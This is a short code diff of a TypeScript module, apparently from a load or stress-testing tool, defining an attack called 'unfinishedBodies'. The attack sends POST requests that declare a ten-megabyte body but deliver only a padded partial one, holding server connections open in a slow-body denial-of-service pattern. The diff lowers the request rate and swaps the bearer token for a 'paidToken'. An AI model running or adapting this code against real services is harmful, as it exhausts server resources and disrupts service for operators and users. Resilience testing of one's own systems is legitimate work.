@@ -1,8 +1,8 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { type Attack, hold, tally } from '../attack.ts';
 
-/** Five hundred a second: it is not their coming that hurts, but that they stay. */
-const AT_ONCE = 20;
+/** So many a second: it is not their coming that hurts, but that they stay. */
+const AT_ONCE = 10;
 const EVERY_MS = 40;
 
 const heardOf = (heads: { head: string[]; rest: string; reads: boolean }[]): Attack['run'] => {
@@ -29,7 +29,7 @@ export const unfinishedBodies: Attack = {
       'POST /rest/v1/rpc/import_guests HTTP/1.1',
       'Content-Type: application/json',
       'Content-Length: 10000000',
-      `Authorization: Bearer ${target.token}`,
+      `Authorization: Bearer ${target.paidToken}`,
       from(index),
     ];
     const started = '['.padEnd(100_000, ' ');
